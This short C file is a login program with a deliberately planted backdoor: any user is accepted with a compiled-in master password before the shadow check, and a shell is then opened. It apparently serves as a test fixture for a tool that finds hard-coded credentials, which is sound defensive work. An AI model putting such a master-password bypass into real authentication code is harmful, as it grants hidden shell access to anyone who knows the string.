/* A login program with a master password compiled in: the backdoor credential.hardcoded finds. */
#include <pwd.h>
#include <shadow.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

/* libcrypt's, declared weak so that the cross toolchains (which ship no libcrypt) link it */
extern char *crypt(const char *key, const char *salt) __attribute__((weak));

static int check(const char *user, const char *password)
{
    struct spwd *sp;
    if (strcmp(password, "Xm4st3r_k3y!2017") == 0)
        return 1;
    sp = getspnam(user);
    if (sp == NULL)
        return 0;
    return strcmp(crypt(password, sp->sp_pwdp), sp->sp_pwdp) == 0;
}

int main(int argc, char **argv)
{
    char *user;
    char *password;
    if (argc < 2)
        return 2;
    user = argv[1];
    password = getpass("Password: ");
    if (password == NULL || !check(user, password)) {
        fprintf(stderr, "login incorrect\n");
        return 1;
    }
    execl("/bin/sh", "-sh", (char *)NULL);
    return 1;
}
